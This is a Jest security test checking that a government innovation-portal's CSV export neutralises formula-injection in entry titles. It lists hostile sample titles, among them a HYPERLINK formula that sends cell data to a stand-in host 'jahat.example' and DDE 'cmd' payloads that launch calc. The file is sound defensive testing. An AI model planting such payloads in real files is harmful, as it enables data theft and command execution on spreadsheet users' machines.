import { parse } from 'csv-parse/sync';
import { compressedPkri, INNOVATION, startCycle } from '../support/fixtures';
import { Stack } from '../support/stack';

jest.setTimeout(180_000);

const YEAR = 2052;
const AGENCY = {
  code: 'kab-uji-keamanan-csv',
  name: 'Pemerintah Kabupaten Uji Keamanan CSV',
  cluster: 'kabupaten',
  province: 'Jawa Tengah',
  zone: 'WIB',
};

/** Titles an agency may type that a spreadsheet would run as a formula, and one it would not. */
const HOSTILE_TITLES = [
  '=HYPERLINK("https://jahat.example/?d="&A1,"Klik untuk detail")',
  "+1+cmd|' /C calc'!A0",
  '-2+3 Layanan Cepat',
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
const PLAIN_TITLE = 'Layanan Kependudukan Keliling';

describe('[security] CSV exports', () => {
  const stack = Stack.shared();
  let cycleId: string;

  beforeAll(async () => {
    await stack.start();
    const agency = await stack.request('POST', '/agencies', AGENCY);
    if (agency.status !== 201 && agency.status !== 409) throw new Error(`agency answered ${agency.status}`);
    cycleId = await startCycle(stack, compressedPkri(YEAR, { submission: 600, others: 60 }));
    const as = await stack.account('agency', AGENCY.code);
    for (const title of [...HOSTILE_TITLES, PLAIN_TITLE]) {
      const registered = await stack.request(
        'POST',
        `/cycles/${cycleId}/entries`,
        { title, summary: 'Inovasi untuk uji keamanan ekspor CSV.', group: 'keberlanjutan', ...INNOVATION },
        as,
      );
      if (registered.status !== 201) throw new Error(`registering "${title}": ${JSON.stringify(registered.body)}`);
    }
  });
  afterAll(() => stack.stop());

  it('[security] a title starting with = + - or @ reaches the entries CSV as text, not a formula, and the list keeps it whole', async () => {
    const csv = await stack.request<string>('GET', `/cycles/${cycleId}/entries.csv`);
    expect(csv.status).toBe(200);
    const rows: Record<string, string>[] = parse(csv.body, { columns: true });
    const titles = rows.map((row) => row.title).sort();

    // Each hostile title is shown as the agency typed it, behind the quote a spreadsheet reads as "this is text".
    expect(titles).toEqual([...HOSTILE_TITLES.map((title) => `'${title}`), PLAIN_TITLE].sort());
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) {
        expect(`${column}: ${cell}`).not.toMatch(/^[^:]+: [=+\-@\t\r]/);
      }
    }

    // The JSON list (and so the portal) keeps every title exactly as it was typed.
    const list = await stack.request('GET', `/cycles/${cycleId}/entries?pageSize=50`);
    expect(list.body.items.map((item: { title: string }) => item.title).sort()).toEqual(
      [...HOSTILE_TITLES, PLAIN_TITLE].sort(),
    );
  });
});
